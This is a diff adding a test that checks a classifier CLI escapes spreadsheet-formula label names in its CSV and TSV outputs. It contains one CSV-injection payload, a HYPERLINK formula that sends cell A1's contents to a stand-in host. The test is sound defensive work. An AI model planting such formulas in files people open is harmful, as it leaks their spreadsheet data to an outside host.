@@ -1360,6 +1360,27 @@ def test_control_characters_from_a_model_or_a_text_reach_the_terminal_escaped(bi
     assert json.loads(shown[0].stdout)[0]["text"] == spoof
 
 
+def test_label_names_a_spreadsheet_would_run_are_plain_text_in_csv_outputs(binary, tmp_path):
+    """A shared model's label names fill the label column of predict --output and the report's mistakes.csv:
+    a formula there would run where a spreadsheet opens the file; JSON Lines keep them as they are."""
+    formula = '=HYPERLINK("http://x/?"&A1,"pos")'
+    labels = [formula if y == "pos" else "-1 (negative)" for y in binary.train_labels]
+    Pipeline("tfidf", "logreg").fit(binary.train_texts, labels).save(tmp_path / "m")
+    source = tmp_path / "in.csv"
+    pd.DataFrame({"text": ["a great great film", "an awful film"]}).to_csv(source, index=False)
+    for name in ("out.csv", "out.tsv", "out.jsonl"):
+        assert_ok(invoke("predict", "--model", tmp_path / "m", "--input", source, "--output", tmp_path / name))
+    for name, sep in (("out.csv", ","), ("out.tsv", "\t")):
+        written = pd.read_csv(tmp_path / name, sep=sep, keep_default_na=False)
+        assert written["label"].tolist() == ["'" + formula, "-1 (negative)"]
+    assert pd.read_json(tmp_path / "out.jsonl", lines=True)["label"].tolist() == [formula, "-1 (negative)"]
+    gold = tmp_path / "gold.csv"
+    pd.DataFrame({"text": ["a great great film"], "label": ["-1 (negative)"]}).to_csv(gold, index=False)
+    assert_ok(invoke("evaluate", gold, "--model", tmp_path / "m", "--report", tmp_path / "rep"))
+    mistakes = pd.read_csv(tmp_path / "rep" / "mistakes.csv", keep_default_na=False)
+    assert mistakes[["label", "predicted"]].values.tolist() == [["-1 (negative)", "'" + formula]]
+
+
 def test_labels_that_differ_by_an_invisible_character_print_apart(binary, tmp_path):
     """A zero-width space (or soft hyphen, byte-order mark, direction mark) shows as nothing: escaped in plain
     output, so that "positive" and "positive" + U+200B do not print alike; the joiners of emoji stay."""
